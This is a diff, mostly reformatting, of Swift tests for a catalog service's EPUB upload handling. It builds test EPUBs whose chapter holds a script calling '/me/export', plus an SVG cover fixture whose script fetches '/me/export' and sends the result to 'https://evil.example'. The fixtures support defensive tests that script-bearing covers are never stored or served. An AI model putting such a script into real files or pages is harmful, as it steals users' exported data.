@@ -4,8 +4,8 @@ import Hummingbird
 import HummingbirdTesting
 import NIOCore
 import Shared
-import Testing
 import TestSupport
+import Testing
 import ZIPFoundation
 
 @testable import CatalogService
@@ -15,20 +15,30 @@ import ZIPFoundation
 extension CatalogServiceTests {
     /// A small valid EPUB 3 whose cover is `cover` (stored as `OPS/cover.<ext>` with the declared media type).
     func epub(
-        title: String, cover: Data, coverPath: String, coverType: String, isbn: String? = nil, extras: [(path: String, data: Data, type: String)] = []
+        title: String,
+        cover: Data,
+        coverPath: String,
+        coverType: String,
+        isbn: String? = nil,
+        extras: [(path: String, data: Data, type: String)] = []
     ) throws -> URL {
         let url = blobs.appendingPathComponent("content-\(UUID().uuidString).epub")
         try FileManager.default.createDirectory(at: blobs, withIntermediateDirectories: true)
         let archive = try Archive(url: url, accessMode: .create)
-        let chapter = Data("""
+        let chapter = Data(
+            """
             <?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>One</title></head>
             <body><h1>One</h1><p>Call me reader.</p><script>fetch('/me/export')</script></body></html>
-            """.utf8)
-        let nav = Data("""
+            """.utf8
+        )
+        let nav = Data(
+            """
             <?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>Contents</title></head>
             <body><nav epub:type="toc"><ol><li><a href="chapter.xhtml">One</a></li></ol></nav></body></html>
-            """.utf8)
-        let opf = Data("""
+            """.utf8
+        )
+        let opf = Data(
+            """
             <?xml version="1.0" encoding="UTF-8"?>
             <package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
             <metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">\(isbn.map { "urn:isbn:\($0)" } ?? "urn:uuid:\(UUID().uuidString)")</dc:identifier>
@@ -38,16 +48,20 @@ extension CatalogServiceTests {
             <item id="cover" href="\(coverPath)" media-type="\(coverType)" properties="cover-image"/>
             \(extras.enumerated().map { #"<item id="extra\#($0.offset)" href="\#($0.element.path)" media-type="\#($0.element.type)"/>"# }.joined())</manifest>
             <spine><itemref idref="c1"/></spine></package>
-            """.utf8)
-        let container = Data("""
+            """.utf8
+        )
+        let container = Data(
+            """
             <?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">
             <rootfiles><rootfile full-path="OPS/book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>
-            """.utf8)
-        let entries: [(String, Data, CompressionMethod)] = [
-            ("mimetype", Data("application/epub+zip".utf8), .none), ("META-INF/container.xml", container, .deflate),
-            ("OPS/book.opf", opf, .deflate), ("OPS/nav.xhtml", nav, .deflate), ("OPS/chapter.xhtml", chapter, .deflate),
-            ("OPS/\(coverPath)", cover, .deflate),
-        ] + extras.map { ("OPS/\($0.path)", $0.data, CompressionMethod.deflate) }
+            """.utf8
+        )
+        let entries: [(String, Data, CompressionMethod)] =
+            [
+                ("mimetype", Data("application/epub+zip".utf8), .none), ("META-INF/container.xml", container, .deflate),
+                ("OPS/book.opf", opf, .deflate), ("OPS/nav.xhtml", nav, .deflate), ("OPS/chapter.xhtml", chapter, .deflate),
+                ("OPS/\(coverPath)", cover, .deflate),
+            ] + extras.map { ("OPS/\($0.path)", $0.data, CompressionMethod.deflate) }
         for (path, data, method) in entries {
             try archive.addEntry(with: path, type: .file, uncompressedSize: Int64(data.count), compressionMethod: method) { position, size in
                 data.subdata(in: Int(position)..<Int(position) + size)
@@ -56,10 +70,12 @@ extension CatalogServiceTests {
         return url
     }
 
-    static let scriptedSVG = Data("""
+    static let scriptedSVG = Data(
+        """
         <svg xmlns="http://www.w3.org/2000/svg" width="600" height="900"><rect width="600" height="900" fill="navy"/>
         <script>fetch('/me/export').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script></svg>
-        """.utf8)
+        """.utf8
+    )
 
     @Test func aScriptBearingSVGCoverIsNeverStoredOrServed() async throws {
         let (app, _) = try await app()
